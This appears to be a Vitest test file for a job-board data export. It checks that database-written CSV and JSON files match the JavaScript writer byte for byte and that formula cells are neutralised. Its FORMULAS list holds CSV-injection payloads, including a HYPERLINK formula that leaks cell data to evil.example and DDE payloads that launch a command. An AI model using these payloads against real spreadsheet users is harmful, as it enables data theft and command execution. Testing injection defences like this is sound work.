/**
 * `runway export`: the tables the database writes itself (ADR 093) give the
 * very bytes the JavaScript writer gives, on awkward values and across page edges.
 */
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { sql } from "drizzle-orm";
import { describe, expect, it } from "vitest";
import { forEachDb } from "../setup/db";
import { AWKWARD_TEXT } from "../setup/awkward-text";
import { parse } from "csv-parse/sync";
import { createCompany, createJob, createUser } from "../factories";
import { exportAll } from "../../app/models/export/export.server";

const AWKWARD = AWKWARD_TEXT;

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];

describe("runway export: database-written tables", () =>
  forEachDb((t) => {
    it("users.csv, companies.csv and jobs.csv neutralise formula cells an employer or user typed", async () => {
      for (const [i, f] of FORMULAS.entries()) {
        const company = await createCompany(t.db, {
          name: `${f} ${i}`,
          description: f,
          location: f,
          phone: f,
        });
        await createJob(t.db, { companyId: company.id, title: f, description: f, location: f });
        const { user } = await createUser(t.db);
        await t.db.execute(
          sql`update users set first_name = ${f}, last_name = ${f}, address = ${f} where id = ${user.id}`,
        );
      }
      const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "runway-formula-export-"));
      try {
        for (const shapeInJs of [false, true]) {
          const dir = path.join(tmp, String(shapeInJs));
          await exportAll(t.db, dir, { shapeInJs });
          for (const file of ["users.csv", "companies.csv", "jobs.csv"]) {
            const text = fs.readFileSync(path.join(dir, file), "utf8");
            const cells: string[] = parse(text, { relax_column_count: true }).flat();
            // Every typed formula is in the file, as plain text behind an apostrophe…
            const found = cells.filter((c) => FORMULAS.some((f) => c.startsWith(`'${f}`)));
            expect(found.length, `${file} (${shapeInJs ? "js" : "db"})`).toBeGreaterThan(0);
            // …and no cell at all starts as a spreadsheet formula would.
            const live = cells.filter((c) => /^[=+\-@\t\r]/.test(c));
            expect(live, `${file} (${shapeInJs ? "js" : "db"})`).toEqual([]);
          }
          // The JSON files keep the exact text.
          const json = JSON.parse(fs.readFileSync(path.join(dir, "companies.json"), "utf8"));
          expect(json.map((c: { description: string }) => c.description)).toEqual(
            expect.arrayContaining(FORMULAS),
          );
        }
      } finally {
        fs.rmSync(tmp, { recursive: true, force: true });
      }
    });

    it("users.csv and users.json are byte for byte the JavaScript writer's, across page edges", async () => {
      for (let i = 0; i < AWKWARD.length; i++) {
        const { user } = await createUser(t.db, {
          role: (["student", "alumni", "admin"] as const)[i % 3],
          courseCode: i % 4 ? undefined : null,
        });
        const text = AWKWARD[i];
        await t.db
          .execute(sql`update users set first_name = ${text}, last_name = ${AWKWARD[(i + 5) % AWKWARD.length]},
            phone = ${i % 2 ? null : text}, address = ${text}, bio = ${i % 3 ? text : null},
            is_active = ${i % 2 === 0}, graduation_year = ${i % 3 ? 2000 + i : null},
            last_login_at = ${i % 2 ? null : sql`'2025-02-03T04:05:06.789999Z'::timestamptz`},
            email_verified_at = ${i % 3 ? sql`now()` : null}
          where id = ${user.id}`);
      }
      const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "runway-data-export-"));
      try {
        for (const pageSize of [2000, 4]) {
          const fast = path.join(tmp, `db-${pageSize}`);
          const slow = path.join(tmp, `js-${pageSize}`);
          const a = await exportAll(t.db, fast, { pageSize });
          const b = await exportAll(t.db, slow, { pageSize, shapeInJs: true });
          expect(a.tables).toEqual(b.tables);
          expect(a.tables.find((x) => x.file === "users")?.rows).toBeGreaterThanOrEqual(
            AWKWARD.length,
          );
          for (const file of fs.readdirSync(slow).filter((f) => /\.(csv|json)$/.test(f)))
            expect(fs.readFileSync(path.join(fast, file), "utf8"), file).toBe(
              fs.readFileSync(path.join(slow, file), "utf8"),
            );
          const json = JSON.parse(fs.readFileSync(path.join(fast, "users.json"), "utf8"));
          expect(json.map((u: { firstName: string }) => u.firstName)).toEqual(
            expect.arrayContaining(AWKWARD),
          );
        }
      } finally {
        fs.rmSync(tmp, { recursive: true, force: true });
      }
    });
  }));
